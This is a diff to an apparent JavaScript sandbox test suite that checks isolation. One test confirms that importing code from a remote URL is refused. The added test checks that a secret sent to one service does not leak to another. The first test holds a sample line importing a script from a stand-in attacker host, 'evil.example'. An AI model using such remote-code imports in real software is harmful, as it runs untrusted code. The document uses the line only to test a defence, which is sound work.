@@ -182,3 +182,21 @@ test('import() of an address outside is refused', async () => {
   const attack = "return import('https://evil.example/x.js').then(() => 'loaded', (error) => error.code);";
   expect(await answerOf(attack)).toBe('ERR_UNSUPPORTED_ESM_URL_SCHEME');
 });
+
+test('the bytes that a service receives lead to nobody else’s', async () => {
+  const lab = await withEvil(`
+    const net = await import('node:net');
+    const seen = [];
+    for (const name of ['good', 'evil']) {
+      const socket = net.connect(name === 'good' ? 8080 : 9000, name);
+      socket.write('GET /x HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n');
+      const [chunk] = await (await import('node:events')).once(socket, 'data');
+      seen.push(Buffer.from(chunk.buffer).includes('SECRET'));
+      socket.destroy();
+      if (name === 'good') break;
+    }
+    return seen.join();
+  `);
+  lab.request('http://good:8080/?SECRET=1', { method: 'POST', body: 'SECRET' });
+  expect(lab.request('http://evil:9000/').body).toBe('false');
+});
